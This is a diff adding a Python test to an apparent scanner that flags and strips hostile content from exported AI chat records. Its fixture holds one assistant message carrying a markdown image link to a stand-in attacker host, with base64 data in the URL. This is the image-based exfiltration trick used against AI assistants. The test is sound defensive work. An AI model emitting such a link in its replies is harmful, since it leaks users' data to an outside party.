@@ -231,3 +231,21 @@ def test_lists_of_the_same_name_meaning_something_else_are_not_an_export() -> No
     survey = {"conversation": ["hi", "bye"], "reply": "ok"}
     assert shape_of(survey) == "reply"
     assert shape_of({"contents": ["a"], "text": "t"}) == "reply"
+
+
+def test_a_list_of_records_that_start_like_langchain_messages(tmp_path: Path) -> None:
+    img = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"
+    records = [
+        {"type": "conversation", "messages": [{"role": "assistant", "content": img}]},
+        {"type": "conversation", "messages": [{"role": "assistant", "content": "fine"}]},
+    ]
+    path = tmp_path / "records.json"
+    path.write_text(json.dumps(records, indent=2))
+    report = scan([str(path)], ScanOptions(fix_dir=tmp_path / "out"), jobs=1)
+    assert report.errors == []
+    assert report.summary.records == 2
+    assert [row.record_id for row in report.findings] == ["0"]
+    assert report.summary.bytes == path.stat().st_size
+    fixed = json.loads((tmp_path / "out" / "records.json").read_text())
+    assert fixed[1] == records[1]
+    assert "attacker" not in json.dumps(fixed[0])
